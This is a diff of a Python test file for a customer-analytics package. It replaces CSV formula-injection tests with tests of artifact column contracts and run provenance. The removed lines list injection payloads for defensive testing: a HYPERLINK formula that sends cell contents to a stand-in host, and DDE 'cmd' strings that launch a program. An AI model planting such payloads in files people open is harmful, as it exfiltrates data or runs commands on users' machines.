@@ -1,41 +1,113 @@
-"""CSV files people open: no cell from the data runs as a spreadsheet formula (issue 13 item 11)."""
+"""Artifact contracts: the registry's columns are checked on write and read, and provenance
+refuses an artifact made for another date, other data or other parameters."""
 from __future__ import annotations
 
-import csv
+import re
 
+import nbformat
 import pandas as pd
+import pytest
 
-from userops import artifacts
-
-PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
-
-
-def _cells(path) -> list[list[str]]:
-    with path.open(newline="", encoding="utf-8") as f:
-        return list(csv.reader(f))
+from userops import artifacts, report
+from userops.artifacts import ArtifactError, Run
 
 
-def test_text_cells_that_start_a_formula_are_quoted(tmp_path):
-    frame = pd.DataFrame({"customer_id": PAYLOADS + ["1188", "a=b"],
-                          "segment": pd.Categorical(["=1+1"] * 7 + ["ok"])})
-    path = artifacts.write_csv(frame, out_dir=tmp_path, name="x")
-    rows = _cells(path)
-    assert rows[0] == ["customer_id", "segment"]
-    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS] + ["1188", "a=b"]
-    assert {r[1] for r in rows[1:]} == {"'=1+1", "ok"}
-    assert frame["customer_id"].tolist()[0] == PAYLOADS[0]  # the caller's frame is not changed
+def _tiers(n: int = 3) -> pd.DataFrame:
+    return pd.DataFrame({
+        "customer_id": [str(i) for i in range(n)], "recency_days": [1] * n, "frequency": [2] * n,
+        "monetary": [3.5] * n, "r_score": [1] * n, "f_score": [1] * n, "m_score": [1] * n,
+        "rf_segment": pd.Categorical(["a"] * n), "rfm_group": ["g"] * n, "lifecycle_stage": ["new"] * n})
 
 
-def test_numbers_and_missing_values_are_written_as_they_are(tmp_path):
-    frame = pd.DataFrame({"monetary": [-12.5, 3.0, None], "frequency": [-1, 2, 3],
-                          "note": ["-12", None, "x"]})
-    rows = _cells(artifacts.write_csv(frame, out_dir=tmp_path, name="n"))
-    assert [r[0] for r in rows[1:]] == ["-12.5", "3.0", ""]
-    assert [r[1] for r in rows[1:]] == ["-1", "2", "3"]
-    assert [r[2] for r in rows[1:]] == ["'-12", "", "x"]  # text that looks like a formula
+def _run(tmp_path, **over) -> Run:
+    ns = {"data": "completejourney", "as_of": "2017-12-31", "out_dir": str(tmp_path),
+          "data_tz": "America/New_York", "window_days": 365}
+    ns.update(over)
+    return Run.of(ns, step=over.get("step", "04_strategy_coverage"), names=["data_tz", "window_days"])
 
 
-def test_a_column_name_from_the_data_is_quoted_too(tmp_path):
-    frame = pd.DataFrame({"=cmd|' /C calc'!A0": ["v"]})
-    assert _cells(artifacts.write_csv(frame, out_dir=tmp_path, name="h"))[0] == ["'=cmd|' /C calc'!A0"]
+def test_write_refuses_a_frame_without_the_promised_columns(tmp_path):
+    with pytest.raises(ArtifactError, match=r"01_customer_tiers.*missing column\(s\) \['lifecycle_stage'\]"):
+        artifacts.write(_tiers().drop(columns="lifecycle_stage"), out_dir=tmp_path, name="01_customer_tiers")
+    with pytest.raises(ArtifactError, match=r"wrong type: monetary"):
+        artifacts.write(_tiers().assign(monetary="x"), out_dir=tmp_path, name="01_customer_tiers")
+    with pytest.raises(ArtifactError, match="missing ids"):
+        artifacts.write(_tiers().assign(customer_id=[None, "1", "2"]), out_dir=tmp_path, name="01_customer_tiers")
+    with pytest.raises(ArtifactError, match="not declared"):
+        artifacts.write(_tiers(), out_dir=tmp_path, name="01_tiers_typo")
+
+
+def test_read_checks_columns_of_a_file_written_elsewhere(tmp_path):
+    artifacts.artifact_dir(tmp_path)
+    _tiers().drop(columns="rfm_group").to_parquet(tmp_path / "artifacts" / "01_customer_tiers.parquet")
+    with pytest.raises(ArtifactError, match="reading: missing column"):
+        artifacts.read(out_dir=tmp_path, name="01_customer_tiers")
+
+
+def test_provenance_round_trip_and_matching_run_reads(tmp_path):
+    writer = _run(tmp_path, step="01_value_tiering")
+    writer.write(_tiers(), "01_customer_tiers")
+    stamp = artifacts.provenance(tmp_path / "artifacts" / "01_customer_tiers.parquet")
+    assert stamp == {"step": "01_value_tiering", "as_of": "2017-12-31", "data": writer.data,
+                     "params": {"data_tz": "America/New_York", "window_days": 365}}
+    got = _run(tmp_path).read("01_customer_tiers")
+    pd.testing.assert_frame_equal(got, _tiers())
+
+
+@pytest.mark.parametrize("change, message", [
+    ({"as_of": "2017-06-30"}, r"made for as_of 2017-12-31, this run is for 2017-06-30"),
+    ({"data": "synthetic"}, r"other data"),
+    ({"window_days": 180}, r"window_days=365 there, 180 here"),
+])
+def test_a_run_refuses_an_artifact_made_for_another_run(tmp_path, change, message):
+    _run(tmp_path, step="01_value_tiering").write(_tiers(), "01_customer_tiers")
+    reader = _run(tmp_path, **change)
+    with pytest.raises(ArtifactError, match=message) as err:
+        reader.require("01_customer_tiers")
+    assert "run 01_value_tiering.ipynb first" in str(err.value)
+    assert reader.read_optional("01_customer_tiers") is None
+    assert _run(tmp_path).read_optional("01_customer_tiers") is not None  # the control
+
+
+def test_missing_artifact_names_the_notebook_to_run(tmp_path):
+    with pytest.raises(ArtifactError, match=r"needs artifact '03_spend_bands'.*run 03_migration_paths.ipynb first"):
+        _run(tmp_path).require("03_spend_bands")
+    assert _run(tmp_path).read_optional("02_customer_clusters") is None
+
+
+def test_parameters_declared_by_one_side_only_do_not_matter(tmp_path):
+    writer = Run.of({"data": "completejourney", "as_of": "2017-12-31", "out_dir": str(tmp_path),
+                     "data_tz": "America/New_York", "split": "median"}, step="01_value_tiering", names=["split"])
+    writer.write(_tiers(), "01_customer_tiers")
+    _run(tmp_path).require("01_customer_tiers")
+
+
+def test_data_fingerprint_follows_the_files_of_a_folder(tmp_path):
+    (tmp_path / "transactions.csv").write_text("customer_id,order_id,ts,amount\n1,1,2024-01-01,2\n")
+    first = artifacts.data_fingerprint(tmp_path, data_tz="UTC")
+    assert artifacts.data_fingerprint(tmp_path, data_tz="UTC") == first
+    assert artifacts.data_fingerprint(tmp_path, data_tz="Asia/Tokyo") != first
+    (tmp_path / "transactions.csv").write_text("customer_id,order_id,ts,amount\n1,1,2024-01-01,20\n")
+    assert artifacts.data_fingerprint(tmp_path, data_tz="UTC") != first
+
+
+# a call, then the first artifact name before the next artifacts call
+_CALL = r"\.{}\((?:(?!\.(?:write|read|require)).)*?[\"'](\d\d_[a-z_]+)[\"']"
+
+
+def _names_in(nb_path, pattern):
+    src = "\n".join(c.source for c in nbformat.read(nb_path, as_version=4).cells if c.cell_type == "code")
+    return set(re.findall(pattern, src, flags=re.S))
+
+
+def test_registry_matches_what_the_notebooks_write_and_read():
+    written, read_by = {}, {}
+    for nb in report.notebooks():
+        for name in _names_in(nb, _CALL.format("write")):
+            written[name] = nb.stem
+        for name in _names_in(nb, _CALL.format("(?:read|read_optional|require)")):
+            read_by.setdefault(name, set()).add(nb.stem)
+    assert written == {name: a.step for name, a in artifacts.REGISTRY.items()}
+    for name, readers in read_by.items():
+        assert name in artifacts.REGISTRY
+        assert all(r > artifacts.REGISTRY[name].step for r in readers), (name, readers)
